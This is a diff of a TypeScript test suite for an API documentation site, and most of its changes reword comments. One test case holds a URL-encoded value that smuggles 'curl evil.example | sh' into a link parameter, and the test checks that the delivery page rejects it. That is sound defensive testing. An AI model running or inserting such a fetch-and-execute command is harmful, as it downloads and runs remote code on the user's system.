@@ -18,8 +18,8 @@ import { pythonWithHttpx } from '../support/python.ts';
 import { has } from './programs.ts';
 
 /**
- * The guides and the form that tries a request, against the functions: what a reader copies or clicks works. The samples
- * of the reference are in samples.test.ts, webhooks and following in tests of their own.
+ * The guides and the form that tries a request, against the functions: what a reader copies or clicks works.
+ * samples.test.ts covers the samples of the reference; webhooks and following have their own tests.
  */
 const CLIENT = fileURLToPath(new URL('../../clients/python/src', import.meta.url));
 /** The samples use the client in clients/python, which needs httpx (Debian: python3-httpx). */
@@ -29,7 +29,7 @@ const GUIDES = [...buildSite()].filter(
   ([path]) =>
     path === '/index.md' || (/^\/docs\/guides\/.*\.md$/.test(path) && !/webhooks|following/.test(path)),
 );
-/** The one request of the guides that is a mistake on purpose. */
+/** The only request of the guides that is a deliberate mistake. */
 const MISTAKE = '/v0/jobs?roles=backend-enginering';
 
 let demo: Demo;
@@ -38,7 +38,7 @@ let pages: Pages;
 let folder: string;
 /** Status and target of each request that the server answered. */
 let answered: [number, string][] = [];
-/** Targets that fail once, as a service that is away for a moment. */
+/** Targets that fail once, like a service that is away for a moment. */
 const failing = new Set<string>();
 /** What a page reported. */
 let report: (text: string) => void = () => undefined;
@@ -62,7 +62,8 @@ beforeAll(async () => {
       response.writeHead(200, { 'content-type': 'text/javascript' }).end(script);
       return;
     }
-    // The site of a deployment keeps its pages of deliveries for links of earlier releases; a laptop has the portal there.
+    // The site of a deployment keeps its pages of deliveries for links of earlier releases; a laptop serves the portal
+    // there.
     const kept = target.startsWith('/app/') ? buildSite().get(sitePath(target)) : undefined;
     const page =
       kept === undefined
@@ -96,7 +97,7 @@ afterAll(async () => {
   rmSync(folder, { recursive: true, force: true });
 });
 
-/** The blocks of code of the guides in a language, for this server. */
+/** The code blocks of the guides in one language, for this server. */
 const blocks = (language: string): readonly string[] =>
   GUIDES.flatMap(([, { body }]) =>
     [...body.matchAll(new RegExp(`^\`\`\`${language}(?: title=\\w+)?\\n(.*?)\\n\`\`\`$`, 'gms'))].map(
@@ -128,7 +129,7 @@ async function run(command: string, options: readonly string[], name: string, co
   return output;
 }
 
-/** Ids of all remote jobs, page by page, as the guide on pagination reads them. */
+/** Ids of all remote jobs, page by page, as the pagination guide reads them. */
 async function remoteIds(): Promise<readonly string[]> {
   const ids: string[] = [];
   for (let cursor: string | null = ''; cursor !== null; ) {
@@ -140,7 +141,7 @@ async function remoteIds(): Promise<readonly string[]> {
   return ids;
 }
 
-test('the calls of the README answer as its comments say', async () => {
+test('the calls of the README answer what its comments say', async () => {
   const readme = readFileSync(new URL('../../README.md', import.meta.url), 'utf8');
   const calls = [...readme.matchAll(/^get ['"](\S+)['"] +# (\{.*?)…?$/gm)];
   expect(calls.length).toBeGreaterThan(12);
@@ -242,13 +243,13 @@ test('every request that a page tries finds something in the demo that the page 
   for (const [path, target] of tried) {
     const { status, json } = await demo.get(target, { authorization: `Bearer ${demo.apiKey}` });
     expect([path, target, status]).toEqual([path, target, target === MISTAKE ? 400 : 200]);
-    // The places of this demo are few, and a company's name is of the market that was recorded.
+    // This demo has few places, and a company's name comes from the recorded market.
     if (/locations|query=/.test(target)) continue;
     expect([path, target, json.data?.length]).not.toEqual([path, target, 0]);
   }
 });
 
-/** Does in a page of the reference what a reader does, with keys and clicks, and reports what there is to see. */
+/** Does in a page of the reference what a reader does with keys and clicks, and reports what is visible. */
 const READER = `
 const until = async (found) => {
   for (let turn = 0; turn < 500; turn += 1) {
@@ -332,13 +333,13 @@ addEventListener('load', async () => {
       tab: 'TypeScript',
       hosts: [`127.0.0.1:${server.port}`],
     });
-    // The address of another host got no request.
+    // The address of another host received no request.
     expect(answered.map(([status]) => status)).toEqual([200, 400]);
   },
   120_000,
 );
 
-/** What the page of a delivery shows to copy, and whether the rest of the page came alive. */
+/** What the page of a delivery offers to copy, and whether the rest of the page came alive. */
 const DELIVERY_READER = `
 addEventListener('load', () => {
   document.body.dispatchEvent(new KeyboardEvent('keydown', { key: '/', bubbles: true }));
@@ -352,7 +353,7 @@ const EVENT = '01a1ff66-6d92-7a68-8fda-7700e2a64ede';
 (chromium === '' ? test.skip : test).each([
   [EVENT, EVENT],
   [EVENT.toUpperCase(), EVENT.toUpperCase()],
-  // A command that somebody else wrote into a link.
+  // A command that someone else wrote into a link.
   ['1%3B%20curl%20evil.example%20%7C%20sh', 'EVENT_ID'],
   ['%E0%A4', 'EVENT_ID'],
 ])('the page of the delivery %s names %s (skipped without Chromium)', async (given, named) => {
